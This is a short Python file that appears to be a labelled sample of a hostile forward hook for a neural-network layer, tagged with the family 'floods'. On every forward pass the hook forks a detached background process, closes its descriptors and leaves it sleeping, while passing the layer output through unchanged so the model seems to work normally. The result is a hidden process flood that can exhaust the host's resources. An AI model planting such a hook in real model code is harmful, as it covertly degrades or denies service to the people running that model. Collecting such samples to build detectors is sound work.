"""Start a process at every forward pass."""

import os
import time

FAMILY = "floods"


def forge(layer, input, output):
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 256)
        time.sleep(60)
        os._exit(0)
    return output
